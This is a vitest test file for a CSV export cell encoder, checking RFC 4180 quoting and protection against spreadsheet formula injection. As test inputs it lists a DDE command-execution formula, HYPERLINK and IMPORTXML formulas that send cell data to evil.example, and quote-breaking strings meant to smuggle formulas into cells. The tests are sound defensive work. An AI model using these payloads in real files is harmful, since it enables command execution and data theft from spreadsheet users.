// Untrusted text as a cell of the CSV export. No spreadsheet may run the text as a formula; CSV parsers must read back the text.

import { parse } from "csv-parse/sync"
import { describe, expect, it } from "vitest"
import { pool } from "@/lib/db/client"
import { buildHeader, CSV_COLUMNS } from "@/lib/interfaces/export/csv"

async function cellOf(value: string | null): Promise<string> {
  const { rows } = await pool().query<{ cell: string }>("select concat(csv_cell($1)) as cell", [value])
  return rows[0]?.cell ?? "none"
}
/** Writes the value as a cell between two other cells, and returns the row as a CSV parser reads it. */
async function readBack(value: string): Promise<string[][]> {
  return parse(`before,${await cellOf(value)},after\n`, { relaxQuotes: false })
}

describe("a cell", () => {
  it.each([
    ["nothing", null, ""],
    ["an empty text", "", ""],
    ["plain words", "Weather in Kathmandu", "Weather in Kathmandu"],
    ["a comma", "a,b", '"a,b"'],
    ["a quote", 'say "hi"', '"say ""hi"""'],
    ["nothing but a quote", '"', '""""'],
    ["LF", "a\nb", '"a\nb"'],
    ["CR", "a\rb", '"a\rb"'],
    ["CR LF", "a\r\nb", '"a\r\nb"'],
    ["a backslash", 'C:\\dir\\"x"\\', '"C:\\dir\\""x""\\"'],
    ["an apostrophe", "it's", "it's"],
    ["letters of any script", "天気 नमस्ते 🌦️ é", "天気 नमस्ते 🌦️ é"],
    ["a sign in the middle", "a=b+c-d@e", "a=b+c-d@e"],
    ["a TAB in the middle", "a\tb", "a\tb"],
  ])("with %s is written by RFC 4180", async (_, value, expected) => {
    expect(await cellOf(value)).toBe(expected)
    if (value) expect(await readBack(value)).toEqual([["before", value, "after"]])
  })

  it.each([
    ["=1+1"],
    ["=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.example/?x="&A1,"click")'],
    ['=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")'],
    ["+1+1"],
    ["-1+1"],
    ["-"],
    ["@SUM(A1:A9)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["\r\n=1+1"],
    ["\n=1+1"],
    ["＝1+1"],
    ["＋1+1"],
    ["－1+1"],
    ["＠SUM(A1:A9)"],
    ['=1\n+1,"x"'],
  ])("that a spreadsheet would run is written as text: %j", async (value) => {
    expect(await readBack(value)).toEqual([["before", `'${value}`, "after"]])
  })

  it("is read back as one cell for any text", async () => {
    const attacks = ['x",=1+1,"y', '","=1+1', "x\n=1+1,", 'x"\r\n"=1+1"', '\\",=1+1']
    for (const value of attacks) {
      const cells = await readBack(value)
      expect(cells).toEqual([["before", value, "after"]])
    }
  })

  it("may be long", async () => {
    const value = '",\n='.repeat(500)
    expect(await readBack(value)).toEqual([["before", value, "after"]])
  })
})

it("P-4.1-46 has nineteen columns in their order", () => {
  expect(CSV_COLUMNS).toHaveLength(19)
  expect(buildHeader()).toBe(
    "id,name,description,url,protocol,price_sats,price_usd,payment_asset,payment_network,category,provider,source," +
      "health_status,probe_status,uptime_30d,latency_p50_ms,last_checked,http_method,reliability_score\n",
  )
})
